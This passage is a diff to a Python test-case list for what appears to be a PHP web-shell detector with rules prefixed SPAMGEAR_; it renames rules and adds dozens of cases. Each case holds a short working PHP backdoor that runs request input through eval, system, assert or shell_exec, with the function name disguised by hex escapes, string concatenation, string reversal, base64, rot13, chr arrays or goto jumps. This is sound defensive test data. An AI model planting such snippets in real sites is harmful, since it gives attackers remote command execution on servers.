@@ -2336,7 +2336,7 @@ CASES: list[tuple[str, bytes, bool]] = [
     ),
     # b:hex_create_fn
     (
-        "SPAMGEAR_OBFUSC_EscapedSinkName",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
         plain(
             "<?php\n$f = \"\\x63\\x72\\x65\\x61\\x74\\x65\\x5f\\x66\\x75\\x6e\\x63\\x74\\x69\\x6f\\x6e\";\n$g = $f('', $_POST['x']);\n$g();\n"
         ),
@@ -2344,7 +2344,7 @@ CASES: list[tuple[str, bytes, bool]] = [
     ),
     # b:hex_create_fn
     (
-        "SPAMGEAR_OBFUSC_EscapedSinkName",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
         padded(
             "<?php\n$f = \"\\x63\\x72\\x65\\x61\\x74\\x65\\x5f\\x66\\x75\\x6e\\x63\\x74\\x69\\x6f\\x6e\";\n$g = $f('', $_POST['x']);\n$g();\n"
         ),
@@ -2352,7 +2352,7 @@ CASES: list[tuple[str, bytes, bool]] = [
     ),
     # b:hex_create_fn
     (
-        "SPAMGEAR_OBFUSC_EscapedSinkName",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
         embedded(
             "<?php\n$f = \"\\x63\\x72\\x65\\x61\\x74\\x65\\x5f\\x66\\x75\\x6e\\x63\\x74\\x69\\x6f\\x6e\";\n$g = $f('', $_POST['x']);\n$g();\n"
         ),
@@ -2360,19 +2360,19 @@ CASES: list[tuple[str, bytes, bool]] = [
     ),
     # b:concat_create_fn4
     (
-        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
         plain('<?php\n$x = "cr" . "eat" . "e_fun" . "ction";\n$y = $x(\'$a\', $_REQUEST[\'c\']);\n$y(1);\n'),
         True,
     ),
     # b:concat_create_fn4
     (
-        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
         padded('<?php\n$x = "cr" . "eat" . "e_fun" . "ction";\n$y = $x(\'$a\', $_REQUEST[\'c\']);\n$y(1);\n'),
         True,
     ),
     # b:concat_create_fn4
     (
-        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
         embedded(
             '<?php\n$x = "cr" . "eat" . "e_fun" . "ction";\n$y = $x(\'$a\', $_REQUEST[\'c\']);\n$y(1);\n'
         ),
@@ -2504,6 +2504,862 @@ CASES: list[tuple[str, bytes, bool]] = [
     (
         "SPAMGEAR_INPUT_InputAsFunction",
         embedded("<?php\n$d = array($_REQUEST['a'] => 1, 'b' => 2);\nuasort($d, $_REQUEST['f']);\n"),
+        True,
+    ),
+    # c:strrev_names_vars
+    (
+        "SPAMGEAR_OBFUSC_ReversedSinkStrong",
+        plain(
+            '<?php\n$payload = \'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\';\n$a = strrev("edoced_46esab");\n$b = strrev("etalfnizg");\n$c = $b($a($payload));\neval($c);\n'
+        ),
+        True,
+    ),
+    # c:strrev_names_vars
+    (
+        "SPAMGEAR_OBFUSC_ReversedSinkStrong",
+        padded(
+            '<?php\n$payload = \'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\';\n$a = strrev("edoced_46esab");\n$b = strrev("etalfnizg");\n$c = $b($a($payload));\neval($c);\n'
+        ),
+        True,
+    ),
+    # c:strrev_names_vars
+    (
+        "SPAMGEAR_OBFUSC_ReversedSinkStrong",
+        embedded(
+            '<?php\n$payload = \'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\';\n$a = strrev("edoced_46esab");\n$b = strrev("etalfnizg");\n$c = $b($a($payload));\neval($c);\n'
+        ),
+        True,
+    ),
+    # c:halt_compiler
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        plain(
+            "<?php\neval(gzinflate(substr(file_get_contents(__FILE__), __COMPILER_HALT_OFFSET__)));\n__halt_compiler();s(®,.IÍÕP\x89ww\r\x89VJV\x8aÕ´VHMÎÈWPÊÏV²\x06\x00"
+        ),
+        True,
+    ),
+    # c:halt_compiler
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        padded(
+            "<?php\neval(gzinflate(substr(file_get_contents(__FILE__), __COMPILER_HALT_OFFSET__)));\n__halt_compiler();s(®,.IÍÕP\x89ww\r\x89VJV\x8aÕ´VHMÎÈWPÊÏV²\x06\x00"
+        ),
+        True,
+    ),
+    # c:halt_compiler
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        embedded(
+            "<?php\neval(gzinflate(substr(file_get_contents(__FILE__), __COMPILER_HALT_OFFSET__)));\n__halt_compiler();s(®,.IÍÕP\x89ww\r\x89VJV\x8aÕ´VHMÎÈWPÊÏV²\x06\x00"
+        ),
+        True,
+    ),
+    # c:input_body_gz
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        plain("<?php\n$x = file_get_contents('php://input');\n$y = gzinflate($x);\neval($y);\n"),
+        True,
+    ),
+    # c:input_body_gz
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        padded("<?php\n$x = file_get_contents('php://input');\n$y = gzinflate($x);\neval($y);\n"),
+        True,
+    ),
+    # c:input_body_gz
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        embedded("<?php\n$x = file_get_contents('php://input');\n$y = gzinflate($x);\neval($y);\n"),
+        True,
+    ),
+    # c:concat_decoder_input
+    (
+        "SPAMGEAR_INPUT_SmallInputAndSink",
+        plain('<?php\n$s = "base" . "64_decode";\n$t = $s($_POST[\'x\']);\neval($t);\n'),
+        True,
+    ),
+    # c:concat_decoder_input
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        padded('<?php\n$s = "base" . "64_decode";\n$t = $s($_POST[\'x\']);\neval($t);\n'),
+        True,
+    ),
+    # c:dq_append
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        plain('<?php\n$f = "ass";\n$f .= "ert";\n$f($_POST[\'x\']);\n'),
+        True,
+    ),
+    # c:dq_append
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        padded('<?php\n$f = "ass";\n$f .= "ert";\n$f($_POST[\'x\']);\n'),
+        True,
+    ),
+    # c:dq_append
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        embedded('<?php\n$f = "ass";\n$f .= "ert";\n$f($_POST[\'x\']);\n'),
+        True,
+    ),
+    # c:implode_var
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        plain("<?php\n$m = array('sys', 'tem');\n$f = implode($m);\n$f($_GET['c']);\n"),
+        True,
+    ),
+    # c:implode_var
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        padded("<?php\n$m = array('sys', 'tem');\n$f = implode($m);\n$f($_GET['c']);\n"),
+        True,
+    ),
+    # c:hex_shell_exec_echo
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        plain("<?php\n$x = \"\\x73\\x68\\x65\\x6c\\x6c\\x5f\\x65\\x78\\x65\\x63\";\necho $x($_POST['c']);\n"),
+        True,
+    ),
+    # c:hex_shell_exec_echo
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        padded(
+            "<?php\n$x = \"\\x73\\x68\\x65\\x6c\\x6c\\x5f\\x65\\x78\\x65\\x63\";\necho $x($_POST['c']);\n"
+        ),
+        True,
+    ),
+    # c:hex_shell_exec_echo
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        embedded(
+            "<?php\n$x = \"\\x73\\x68\\x65\\x6c\\x6c\\x5f\\x65\\x78\\x65\\x63\";\necho $x($_POST['c']);\n"
+        ),
+        True,
+    ),
+    # c:explode_implode
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        plain(
+            "<?php\n$pieces = explode(',', 'a,s,s,e,r,t');\n$f = implode('', $pieces);\n$f($_POST['z']);\n"
+        ),
+        True,
+    ),
+    # c:explode_implode
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        padded(
+            "<?php\n$pieces = explode(',', 'a,s,s,e,r,t');\n$f = implode('', $pieces);\n$f($_POST['z']);\n"
+        ),
+        True,
+    ),
+    # c:ob_start_decoded
+    (
+        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
+        plain("<?php\nob_start(base64_decode('YXNzZXJ0'));\necho $_POST['x'];\nob_end_flush();\n"),
+        True,
+    ),
+    # c:ob_start_decoded
+    (
+        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
+        padded("<?php\nob_start(base64_decode('YXNzZXJ0'));\necho $_POST['x'];\nob_end_flush();\n"),
+        True,
+    ),
+    # c:ob_start_decoded
+    (
+        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
+        embedded("<?php\nob_start(base64_decode('YXNzZXJ0'));\necho $_POST['x'];\nob_end_flush();\n"),
+        True,
+    ),
+    # c:error_handler_cf
+    (
+        "SPAMGEAR_FAMILY_ChinaChopper",
+        plain("<?php\nset_error_handler(create_function('', $_POST['x']));\ntrigger_error('x');\n"),
+        True,
+    ),
+    # c:error_handler_cf
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded("<?php\nset_error_handler(create_function('', $_POST['x']));\ntrigger_error('x');\n"),
+        True,
+    ),
+    # c:error_handler_cf
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded("<?php\nset_error_handler(create_function('', $_POST['x']));\ntrigger_error('x');\n"),
+        True,
+    ),
+    # c:array_map_concat_cast
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        plain("<?php array_map('ass'.'ert', (array) $_REQUEST['c']);\n"),
+        True,
+    ),
+    # c:array_map_concat_cast
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        padded("<?php array_map('ass'.'ert', (array) $_REQUEST['c']);\n"),
+        True,
+    ),
+    # c:array_map_concat_cast
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        embedded("<?php array_map('ass'.'ert', (array) $_REQUEST['c']);\n"),
+        True,
+    ),
+    # c:array_elem_map
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        plain("<?php\n$arr = ['system'];\narray_map($arr[0], [$_GET['c']]);\n"),
+        True,
+    ),
+    # c:array_elem_map
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        padded("<?php\n$arr = ['system'];\narray_map($arr[0], [$_GET['c']]);\n"),
+        True,
+    ),
+    # c:array_elem_map
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        embedded("<?php\n$arr = ['system'];\narray_map($arr[0], [$_GET['c']]);\n"),
+        True,
+    ),
+    # c:cuf_concat
+    (
+        "SPAMGEAR_INPUT_TinyCallbackOfInput",
+        plain("<?php\n$cb = 'sys' . 'tem';\ncall_user_func($cb, $_GET['c']);\n"),
+        True,
+    ),
+    # c:cuf_concat
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        padded("<?php\n$cb = 'sys' . 'tem';\ncall_user_func($cb, $_GET['c']);\n"),
+        True,
+    ),
+    # c:cuf_concat
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        embedded("<?php\n$cb = 'sys' . 'tem';\ncall_user_func($cb, $_GET['c']);\n"),
+        True,
+    ),
+    # c:iife
+    ("SPAMGEAR_INPUT_ClosureSinkOfInput", plain("<?php (function($c) { eval($c); })($_POST['x']);\n"), True),
+    # c:iife
+    ("SPAMGEAR_INPUT_ClosureSinkOfInput", padded("<?php (function($c) { eval($c); })($_POST['x']);\n"), True),
+    # c:iife
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        embedded("<?php (function($c) { eval($c); })($_POST['x']);\n"),
+        True,
+    ),
+    # c:cuf_closure_direct
+    (
+        "SPAMGEAR_FAMILY_ChinaChopper",
+        plain("<?php call_user_func(function() { eval($_REQUEST['x']); });\n"),
+        True,
+    ),
+    # c:cuf_closure_direct
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded("<?php call_user_func(function() { eval($_REQUEST['x']); });\n"),
+        True,
+    ),
+    # c:cuf_closure_direct
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded("<?php call_user_func(function() { eval($_REQUEST['x']); });\n"),
+        True,
+    ),
+    # c:arrow_fn_var
+    ("SPAMGEAR_INPUT_SmallInputAndSink", plain("<?php\n$f = fn($c) => eval($c);\n$f($_POST['x']);\n"), True),
+    # c:arrow_fn_var
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        padded("<?php\n$f = fn($c) => eval($c);\n$f($_POST['x']);\n"),
+        True,
+    ),
+    # c:arrow_fn_map
+    (
+        "SPAMGEAR_INPUT_SmallInputAndSink",
+        plain("<?php array_map(fn($c) => system($c), [$_GET['c']]);\n"),
+        True,
+    ),
+    # c:helper_two_stmt
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        plain("<?php\nfunction x($a) { $b = base64_decode($a); eval($b); }\nx($_POST['k']);\n"),
+        True,
+    ),
+    # c:helper_two_stmt
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        padded("<?php\nfunction x($a) { $b = base64_decode($a); eval($b); }\nx($_POST['k']);\n"),
+        True,
+    ),
+    # c:helper_two_stmt
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        embedded("<?php\nfunction x($a) { $b = base64_decode($a); eval($b); }\nx($_POST['k']);\n"),
+        True,
+    ),
+    # c:server_loop_noblock
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        plain("<?php foreach ($_SERVER as $k => $v) if (substr($k, 0, 7) == 'HTTP_X_') { @system($v); }\n"),
+        True,
+    ),
+    # c:server_loop_noblock
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        padded("<?php foreach ($_SERVER as $k => $v) if (substr($k, 0, 7) == 'HTTP_X_') { @system($v); }\n"),
+        True,
+    ),
+    # c:server_loop_noblock
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        embedded(
+            "<?php foreach ($_SERVER as $k => $v) if (substr($k, 0, 7) == 'HTTP_X_') { @system($v); }\n"
+        ),
+        True,
+    ),
+    # c:each_loop
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        plain("<?php while (list($k, $v) = each($_POST)) { $k($v); }\n"),
+        True,
+    ),
+    # c:each_loop
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        padded("<?php while (list($k, $v) = each($_POST)) { $k($v); }\n"),
+        True,
+    ),
+    # c:each_loop
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        embedded("<?php while (list($k, $v) = each($_POST)) { $k($v); }\n"),
+        True,
+    ),
+    # c:goto_cf
+    (
+        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
+        plain(
+            "<?php\ngoto q;\nw: $g = create_function('', $b); goto e;\nq: $b = base64_decode($_POST['b']); goto w;\ne: $g();\n"
+        ),
+        True,
+    ),
+    # c:goto_cf
+    (
+        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
+        padded(
+            "<?php\ngoto q;\nw: $g = create_function('', $b); goto e;\nq: $b = base64_decode($_POST['b']); goto w;\ne: $g();\n"
+        ),
+        True,
+    ),
+    # c:goto_cf
+    (
+        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
+        embedded(
+            "<?php\ngoto q;\nw: $g = create_function('', $b); goto e;\nq: $b = base64_decode($_POST['b']); goto w;\ne: $g();\n"
+        ),
+        True,
+    ),
+    # c:O0_var_nest
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        plain(
+            "<?php\n$O0O0 = 'gzinflate'; $OO00 = 'base64_decode'; $O00O = 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\neval($O0O0($OO00($O00O)));\n"
+        ),
+        True,
+    ),
+    # c:O0_var_nest
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        padded(
+            "<?php\n$O0O0 = 'gzinflate'; $OO00 = 'base64_decode'; $O00O = 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\neval($O0O0($OO00($O00O)));\n"
+        ),
+        True,
+    ),
+    # c:O0_var_nest
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        embedded(
+            "<?php\n$O0O0 = 'gzinflate'; $OO00 = 'base64_decode'; $O00O = 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\neval($O0O0($OO00($O00O)));\n"
+        ),
+        True,
+    ),
+    # c:underscore_concat
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        plain("<?php\n$_ = 'as'.'s'.'e'.'r'.'t';\n$_($_POST['_']);\n"),
+        True,
+    ),
+    # c:underscore_concat
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        padded("<?php\n$_ = 'as'.'s'.'e'.'r'.'t';\n$_($_POST['_']);\n"),
+        True,
+    ),
+    # c:underscore_concat
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        embedded("<?php\n$_ = 'as'.'s'.'e'.'r'.'t';\n$_($_POST['_']);\n"),
+        True,
+    ),
+    # c:underscore_vars
+    (
+        "SPAMGEAR_EVASION_UnderscoreVarCall",
+        plain("<?php\n$__ = $_POST['a'];\n$___ = $_POST['b'];\n$__($___);\n"),
+        True,
+    ),
+    # c:underscore_vars
+    (
+        "SPAMGEAR_EVASION_UnderscoreVarCall",
+        padded("<?php\n$__ = $_POST['a'];\n$___ = $_POST['b'];\n$__($___);\n"),
+        True,
+    ),
+    # c:underscore_vars
+    (
+        "SPAMGEAR_EVASION_UnderscoreVarCall",
+        embedded("<?php\n$__ = $_POST['a'];\n$___ = $_POST['b'];\n$__($___);\n"),
+        True,
+    ),
+    # c:string_literal_call
+    (
+        "SPAMGEAR_INPUT_TinyCallbackOfInput",
+        plain("<?php (\"\\x73\\x79\\x73\\x74\\x65\\x6d\")($_GET['c']);\n"),
+        True,
+    ),
+    # c:string_literal_call
+    (
+        "SPAMGEAR_OBFUSC_EscapedSinkName",
+        padded("<?php (\"\\x73\\x79\\x73\\x74\\x65\\x6d\")($_GET['c']);\n"),
+        True,
+    ),
+    # c:string_literal_call
+    (
+        "SPAMGEAR_OBFUSC_EscapedSinkName",
+        embedded("<?php (\"\\x73\\x79\\x73\\x74\\x65\\x6d\")($_GET['c']);\n"),
+        True,
+    ),
+    # c:paren_concat_call
+    ("SPAMGEAR_INPUT_TinyCallbackOfInput", plain("<?php ('sys'.'tem')($_GET['c']);\n"), True),
+    # c:paren_concat_call
+    ("SPAMGEAR_OBFUSC_ConcatSinkName", padded("<?php ('sys'.'tem')($_GET['c']);\n"), True),
+    # c:paren_concat_call
+    ("SPAMGEAR_OBFUSC_ConcatSinkName", embedded("<?php ('sys'.'tem')($_GET['c']);\n"), True),
+    # c:b64_var_name
+    (
+        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
+        plain("<?php\n$x = 'c3lzdGVt';\n$f = base64_decode($x);\n$f($_GET['c']);\n"),
+        True,
+    ),
+    # c:b64_var_name
+    (
+        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
+        padded("<?php\n$x = 'c3lzdGVt';\n$f = base64_decode($x);\n$f($_GET['c']);\n"),
+        True,
+    ),
+    # c:b64_var_name
+    (
+        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
+        embedded("<?php\n$x = 'c3lzdGVt';\n$f = base64_decode($x);\n$f($_GET['c']);\n"),
+        True,
+    ),
+    # c:chr_array_eval
+    (
+        "SPAMGEAR_OBFUSC_ChrMapEval",
+        plain(
+            "<?php eval(implode('', array_map('chr', array(64,115,121,115,116,101,109,40,36,95,71,69,84,91,34,99,34,93,41,59,32,101,99,104,111,32,34,111,107,34,59))));\n"
+        ),
+        True,
+    ),
+    # c:chr_array_eval
+    (
+        "SPAMGEAR_OBFUSC_ChrMapEval",
+        padded(
+            "<?php eval(implode('', array_map('chr', array(64,115,121,115,116,101,109,40,36,95,71,69,84,91,34,99,34,93,41,59,32,101,99,104,111,32,34,111,107,34,59))));\n"
+        ),
+        True,
+    ),
+    # c:chr_array_eval
+    (
+        "SPAMGEAR_OBFUSC_ChrMapEval",
+        embedded(
+            "<?php eval(implode('', array_map('chr', array(64,115,121,115,116,101,109,40,36,95,71,69,84,91,34,99,34,93,41,59,32,101,99,104,111,32,34,111,107,34,59))));\n"
+        ),
+        True,
+    ),
+    # c:chr_explode_eval
+    (
+        "SPAMGEAR_OBFUSC_ChrMapEval",
+        plain(
+            "<?php eval(join(array_map('chr', explode(',', '64,115,121,115,116,101,109,40,36,95,71,69,84,91,34,99,34,93,41,59,32,101,99,104,111,32,34,111,107,34,59'))));\n"
+        ),
+        True,
+    ),
+    # c:chr_explode_eval
+    (
+        "SPAMGEAR_OBFUSC_ChrMapEval",
+        padded(
+            "<?php eval(join(array_map('chr', explode(',', '64,115,121,115,116,101,109,40,36,95,71,69,84,91,34,99,34,93,41,59,32,101,99,104,111,32,34,111,107,34,59'))));\n"
+        ),
+        True,
+    ),
+    # c:chr_explode_eval
+    (
+        "SPAMGEAR_OBFUSC_ChrMapEval",
+        embedded(
+            "<?php eval(join(array_map('chr', explode(',', '64,115,121,115,116,101,109,40,36,95,71,69,84,91,34,99,34,93,41,59,32,101,99,104,111,32,34,111,107,34,59'))));\n"
+        ),
+        True,
+    ),
+    # c:chr_loop_eval
+    (
+        "SPAMGEAR_OBFUSC_ChrMapEval",
+        plain(
+            "<?php\n$code = '';\nforeach (array(64,115,121,115,116,101,109,40,36,95,71,69,84,91,34,99,34,93,41,59,32,101,99,104,111,32,34,111,107,34,59) as $c) $code .= chr($c);\neval($code);\n"
+        ),
+        True,
+    ),
+    # c:chr_loop_eval
+    (
+        "SPAMGEAR_OBFUSC_ChrMapEval",
+        padded(
+            "<?php\n$code = '';\nforeach (array(64,115,121,115,116,101,109,40,36,95,71,69,84,91,34,99,34,93,41,59,32,101,99,104,111,32,34,111,107,34,59) as $c) $code .= chr($c);\neval($code);\n"
+        ),
+        True,
+    ),
+    # c:chr_loop_eval
+    (
+        "SPAMGEAR_OBFUSC_ChrMapEval",
+        embedded(
+            "<?php\n$code = '';\nforeach (array(64,115,121,115,116,101,109,40,36,95,71,69,84,91,34,99,34,93,41,59,32,101,99,104,111,32,34,111,107,34,59) as $c) $code .= chr($c);\neval($code);\n"
+        ),
+        True,
+    ),
+    # c:rot13_literal_eval
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        plain('<?php eval(str_rot13(\'@flfgrz($_TRG["p"]); rpub "bx";\'));\n'),
+        True,
+    ),
+    # c:rot13_literal_eval
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        padded('<?php eval(str_rot13(\'@flfgrz($_TRG["p"]); rpub "bx";\'));\n'),
+        True,
+    ),
+    # c:rot13_literal_eval
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        embedded('<?php eval(str_rot13(\'@flfgrz($_TRG["p"]); rpub "bx";\'));\n'),
+        True,
+    ),
+    # c:strrev_literal_assert
+    ("SPAMGEAR_OBFUSC_EvalDecoder", plain("<?php assert(strrev(';)]\"x\"[TSOP_$(lave'));\n"), True),
+    # c:strrev_literal_assert
+    ("SPAMGEAR_OBFUSC_EvalDecoder", padded("<?php assert(strrev(';)]\"x\"[TSOP_$(lave'));\n"), True),
+    # c:strrev_literal_assert
+    ("SPAMGEAR_OBFUSC_EvalDecoder", embedded("<?php assert(strrev(';)]\"x\"[TSOP_$(lave'));\n"), True),
+    # c:interp_modifier
+    (
+        "SPAMGEAR_EVASION_SplitPregModifier",
+        plain("<?php\n$e = 'e';\npreg_replace(\"/x/$e\", $_POST['c'], 'x');\n"),
+        True,
+    ),
+    # c:interp_modifier
+    (
+        "SPAMGEAR_EVASION_SplitPregModifier",
+        padded("<?php\n$e = 'e';\npreg_replace(\"/x/$e\", $_POST['c'], 'x');\n"),
+        True,
+    ),
+    # c:interp_modifier
+    (
+        "SPAMGEAR_EVASION_SplitPregModifier",
+        embedded("<?php\n$e = 'e';\npreg_replace(\"/x/$e\", $_POST['c'], 'x');\n"),
+        True,
+    ),
+    # c:preg_filter_e
+    ("SPAMGEAR_INPUT_PregReplaceEval", plain("<?php preg_filter('/x/e', $_POST['c'], 'x');\n"), True),
+    # c:preg_filter_e
+    ("SPAMGEAR_INPUT_PregReplaceEval", padded("<?php preg_filter('/x/e', $_POST['c'], 'x');\n"), True),
+    # c:preg_filter_e
+    ("SPAMGEAR_INPUT_PregReplaceEval", embedded("<?php preg_filter('/x/e', $_POST['c'], 'x');\n"), True),
+    # c:cookie_chain
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        plain("<?php\n$a = $_COOKIE;\n$b = $a['x'];\n$c = base64_decode($b);\neval($c);\n"),
+        True,
+    ),
+    # c:cookie_chain
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        padded("<?php\n$a = $_COOKIE;\n$b = $a['x'];\n$c = base64_decode($b);\neval($c);\n"),
+        True,
+    ),
+    # c:cookie_chain
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        embedded("<?php\n$a = $_COOKIE;\n$b = $a['x'];\n$c = base64_decode($b);\neval($c);\n"),
+        True,
+    ),
+    # c:array_keys_call
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        plain("<?php\n$k = array_keys($_GET)[0];\n$k($_GET[$k]);\n"),
+        True,
+    ),
+    # c:array_keys_call
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        padded("<?php\n$k = array_keys($_GET)[0];\n$k($_GET[$k]);\n"),
+        True,
+    ),
+    # c:array_values_call
+    (
+        "SPAMGEAR_EVASION_CopiedInputElementCall",
+        plain("<?php\n$arr = array_values($_POST);\n$arr[0]($arr[1]);\n"),
+        True,
+    ),
+    # c:array_values_call
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php\n$arr = array_values($_POST);\n$arr[0]($arr[1]);\n"),
+        True,
+    ),
+    # c:array_values_call
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        embedded("<?php\n$arr = array_values($_POST);\n$arr[0]($arr[1]);\n"),
+        True,
+    ),
+    # c:cufa_cast
+    (
+        "SPAMGEAR_INPUT_InputAsFunction",
+        plain("<?php call_user_func_array($_POST['f'], (array) $_POST['a']);\n"),
+        True,
+    ),
+    # c:cufa_cast
+    (
+        "SPAMGEAR_INPUT_InputAsFunction",
+        padded("<?php call_user_func_array($_POST['f'], (array) $_POST['a']);\n"),
+        True,
+    ),
+    # c:cufa_cast
+    (
+        "SPAMGEAR_INPUT_InputAsFunction",
+        embedded("<?php call_user_func_array($_POST['f'], (array) $_POST['a']);\n"),
+        True,
+    ),
+    # c:data_include_input
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        plain("<?php include('data://text/plain;base64,' . $_POST['x']);\n"),
+        True,
+    ),
+    # c:data_include_input
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        padded("<?php include('data://text/plain;base64,' . $_POST['x']);\n"),
+        True,
+    ),
+    # c:data_include_input
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        embedded("<?php include('data://text/plain;base64,' . $_POST['x']);\n"),
+        True,
+    ),
+    # c:cf_5_pieces
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        plain("<?php\n$c = 'cr'.'eat'.'e_f'.'unc'.'tion';\n$d = $c('', $_POST['x']);\n$d();\n"),
+        True,
+    ),
+    # c:cf_5_pieces
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        padded("<?php\n$c = 'cr'.'eat'.'e_f'.'unc'.'tion';\n$d = $c('', $_POST['x']);\n$d();\n"),
+        True,
+    ),
+    # c:cf_5_pieces
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        embedded("<?php\n$c = 'cr'.'eat'.'e_f'.'unc'.'tion';\n$d = $c('', $_POST['x']);\n$d();\n"),
+        True,
+    ),
+    # c:strtr_blob_far
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        plain(
